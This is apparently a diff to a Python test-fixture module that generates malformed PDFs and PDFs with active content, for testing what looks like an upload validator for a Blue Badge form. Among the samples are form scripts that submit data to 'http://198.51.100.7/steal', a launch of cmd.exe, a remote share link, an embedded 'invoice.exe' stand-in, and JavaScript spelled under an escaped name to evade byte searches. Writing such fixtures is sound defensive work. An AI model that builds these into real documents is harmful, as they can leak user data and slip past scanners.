@@ -20,7 +20,18 @@ from dataclasses import dataclass
 
 import docx
 from docx.opc.constants import RELATIONSHIP_TYPE as RT
-from pypdf import PdfWriter
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NullObject,
+    NumberObject,
+    PdfObject,
+    StreamObject,
+    TextStringObject,
+)
 
 from sandbox.forms import applicant, blue_badge_pdf
 
@@ -117,6 +128,41 @@ def pages_pdf(pages: int, *, indirect_count: bool = False) -> bytes:
     )
 
 
+_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
+_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
+
+
+def _tree(count: bytes, kids: bytes = b"[3 0 R]") -> bytes:
+    return b"<< /Type /Pages /Kids %b /Count %b >>" % (kids, count)
+
+
+# PDFs whose catalogue or page tree is not what the specification says, by what is wrong with it.
+ODD_TRAILERS: dict[str, list[bytes]] = {
+    "catalogue is a number": [b"42", _tree(b"1"), _PAGE],
+    "catalogue is an array": [b"[1 0 R]", _tree(b"1"), _PAGE],
+    "no page tree": [b"<< /Type /Catalog >>", _tree(b"1"), _PAGE],
+    "page tree is a number": [b"<< /Type /Catalog /Pages 7 >>", _tree(b"1"), _PAGE],
+    "page tree is a name": [b"<< /Type /Catalog /Pages /Pages >>", _tree(b"1"), _PAGE],
+    "kids is not an array": [_CATALOG, _tree(b"/Many", b"3 0 R"), _PAGE],
+    "kids lead back to the root": [_CATALOG, _tree(b"/Many", b"[2 0 R]"), _PAGE],
+    "a kid is a number": [_CATALOG, _tree(b"2.5", b"[3 0 R 5]"), _PAGE],
+}
+# ... and those whose /Count is no count, though the tree itself is sound: the pages are counted instead.
+ODD_COUNTS: dict[str, bytes] = {"a real": b"1.5", "a name": b"/Many", "a boolean": b"true", "negative": b"-5",
+                                "a string": b"(one)", "missing": b""}  # fmt: skip
+
+
+def odd_trailer_pdf(kind: str) -> bytes:
+    return pdf_bytes(ODD_TRAILERS[kind])
+
+
+def odd_count_pdf(kind: str, pages: int = 1) -> bytes:
+    kids = b"[%b]" % b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
+    count = ODD_COUNTS[kind]
+    tree = _tree(count, kids) if count else b"<< /Type /Pages /Kids %b >>" % kids
+    return pdf_bytes([_CATALOG, tree] + [_PAGE] * pages)
+
+
 def flate_bomb_pdf(gib: int = 4, layers: int = 3) -> bytes:
     """One page whose content stream inflates to ``gib`` GiB of zeros through ``layers`` FlateDecode filters;
     the file itself is a few kilobytes."""
@@ -151,6 +197,175 @@ def encrypted_pdf_escaped_name() -> bytes:
     data = encrypted_pdf("AES-128", user_password="")
     trailer = data.rindex(b"trailer")
     return data[:trailer] + data[trailer:].replace(b"/Encrypt", b"/Encr#79pt")
+
+
+# --- PDFs with active content (and genuine ones with harmless actions) --------------------------------------
+def _edited_pdf(change: Callable[[PdfWriter], None], data: bytes | None = None) -> bytes:
+    """The good PDF form (or ``data``) cloned into pypdf's writer, changed by ``change``, written out."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data or good_pdf())))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
+    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind),
+                             **{NameObject(f"/{key}"): value for key, value in entries.items()}})  # fmt: skip
+
+
+def _text(value: str) -> TextStringObject:
+    return TextStringObject(value)
+
+
+def _set(holder: DictionaryObject, key: str, value: PdfObject) -> None:
+    holder[NameObject(key)] = value
+
+
+def _name_tree(writer: PdfWriter, kind: str, name: str, value: PdfObject) -> None:
+    """A one-entry name tree under the catalogue's /Names (``kind``: /JavaScript, /EmbeddedFiles)."""
+    names = DictionaryObject()
+    _set(names, kind, DictionaryObject({NameObject("/Names"): ArrayObject([_text(name), writer._add_object(value)])}))
+    _set(writer._root_object, "/Names", names)
+
+
+def _widget(writer: PdfWriter, name: str) -> DictionaryObject:
+    return next(annotation.get_object() for page in writer.pages for annotation in page.get("/Annots", [])
+                if annotation.get_object().get("/T") == name)  # fmt: skip
+
+
+def _link(writer: PdfWriter, action: DictionaryObject, subtype: str = "/Link") -> None:
+    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+                                   NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 70)]),
+                                   NameObject("/A"): action})  # fmt: skip
+    page = writer.pages[0]
+    annotations = page.get("/Annots")
+    if annotations is None:
+        annotations = ArrayObject()
+        _set(page, "/Annots", annotations)
+    annotations.get_object().append(writer._add_object(annotation))
+
+
+def _embedded_file(writer: PdfWriter) -> DictionaryObject:
+    stream = StreamObject()
+    stream.set_data(b"MZ this stands in for a program")
+    _set(stream, "/Type", NameObject("/EmbeddedFile"))
+    return DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): _text("invoice.exe"),
+                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})  # fmt: skip
+
+
+def _javascript(script: str = "app.alert('hello')") -> DictionaryObject:
+    return _action("/JavaScript", JS=_text(script))
+
+
+def _field_script(trigger: str, script: str) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        _set(_widget(writer, "date_of_birth"), "/AA", DictionaryObject({NameObject(trigger): _javascript(script)}))
+
+    return change
+
+
+def _xfa(template: bytes) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        stream = StreamObject()
+        stream.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>' + template + b"</template></xdp:xdp>")
+        _set(writer._root_object["/AcroForm"], "/XFA", ArrayObject([_text("template"), writer._add_object(stream)]))
+
+    return change
+
+
+def _page_action(trigger: str, action: DictionaryObject) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        _set(writer.pages[0], "/AA", DictionaryObject({NameObject(trigger): action}))
+
+    return change
+
+
+def _catalog(key: str, value: Callable[[PdfWriter], PdfObject]) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        _set(writer._root_object, key, value(writer))
+
+    return change
+
+
+def _bookmark(action: DictionaryObject) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        item = writer.add_outline_item("Section 1", 0)
+        _set(item.get_object(), "/A", action)
+
+    return change
+
+
+def _annotation(subtype: str) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+                                       NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)])})  # fmt: skip
+        if subtype == "/FileAttachment":
+            _set(annotation, "/FS", _embedded_file(writer))
+        page = writer.pages[0]
+        page["/Annots"].get_object().append(writer._add_object(annotation))
+
+    return change
+
+
+def _chained_after_a_web_link(writer: PdfWriter) -> None:
+    _link(writer, _action("/URI", URI=_text("https://www.gov.uk/blue-badge"), Next=_javascript()))
+
+
+# Each PDF a reader would run, launch, send or unpack something from, by how it does it.
+ACTIVE_PDFS: dict[str, Callable[[PdfWriter], None]] = {
+    "document JavaScript": lambda w: _name_tree(w, "/JavaScript", "init", _javascript()),
+    "JavaScript open action": _catalog("/OpenAction", lambda w: _javascript()),
+    "document additional action": _catalog("/AA", lambda w: DictionaryObject({NameObject("/WC"): _javascript()})),
+    "page open action": _page_action("/O", _javascript()),
+    "field keystroke script": _field_script("/K", "this.submitForm('http://198.51.100.7/steal')"),
+    "launch a program": lambda w: _link(w, _action("/Launch", F=_text("cmd.exe"))),
+    "submit the form": _page_action("/C", _action("/SubmitForm", F=_text("http://198.51.100.7/collect"))),
+    "import data": _catalog("/OpenAction", lambda w: _action("/ImportData", F=_text("data.fdf"))),
+    "open a remote PDF": _bookmark(_action("/GoToR", F=_text("//198.51.100.7/share/x.pdf"),
+                                           D=ArrayObject([NumberObject(0), NameObject("/Fit")]))),
+    "open an embedded PDF": lambda w: _link(w, _action("/GoToE", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))),
+    "script after a web link": _chained_after_a_web_link,
+    "embedded file": lambda w: _name_tree(w, "/EmbeddedFiles", "invoice.exe", _embedded_file(w)),
+    "associated file": _catalog("/AF", lambda w: ArrayObject([w._add_object(_embedded_file(w))])),
+    "file attachment annotation": _annotation("/FileAttachment"),
+    "rich media": _annotation("/RichMedia"),
+    "XFA with a script": _xfa(b'<subform><field name="a"><event activity="click"><script>app.alert(1)</script>'
+                              b"</event></field></subform>"),
+}  # fmt: skip
+
+
+def active_pdf(kind: str) -> bytes:
+    """The good PDF form with one kind of active content from :data:`ACTIVE_PDFS`."""
+    return _edited_pdf(ACTIVE_PDFS[kind])
+
+
+def javascript_under_an_escaped_name() -> bytes:
+    """An /OpenAction whose action type is spelled /Java#53cript: a reader decodes the name, a byte search
+    for "/JavaScript" does not."""
+    data = _edited_pdf(_catalog("/OpenAction", lambda w: _javascript("runScriptXX")))
+    escaped = data.replace(b"/JavaScript", b"/Java#53cript").replace(b"runScriptXX", b"runScript")  # no offset moves
+    assert len(escaped) == len(data) and b"/JavaScript" not in escaped
+    return escaped
+
+
+# Harmless actions genuine forms carry.
+BENIGN_PDFS: dict[str, Callable[[PdfWriter], None]] = {
+    "open at page 1 (as Word writes)": _catalog("/OpenAction", lambda w: ArrayObject(
+        [w.pages[0].indirect_reference, NameObject("/XYZ"), NullObject(), NullObject(), NumberObject(0)])),
+    "go to page 2 on opening": _catalog("/OpenAction", lambda w: _action(
+        "/GoTo", D=ArrayObject([w.pages[1].indirect_reference, NameObject("/Fit")]))),
+    "link to a web page": lambda w: _link(w, _action("/URI", URI=_text("https://www.gov.uk/blue-badge"))),
+    "Acrobat's date format": _field_script("/F", 'AFDate_FormatEx("dd/mm/yyyy");'),
+    "Acrobat's date keystroke": _field_script("/K", "AFDate_KeystrokeEx('dd/mm/yyyy')"),
+    "Acrobat's number format": _field_script("/F", 'AFNumber_Format(2, 0, 0, 0, "\u00a3", true);'),
+    "XFA without scripts": _xfa(b'<subform><field name="a"/></subform>'),
+}  # fmt: skip
+
+
+def benign_pdf(kind: str, data: bytes | None = None) -> bytes:
+    """The good PDF form (or ``data``) with one kind of harmless action from :data:`BENIGN_PDFS`."""
+    return _edited_pdf(BENIGN_PDFS[kind], data)
 
 
 def truncated(data: bytes, keep: float = 0.5) -> bytes:
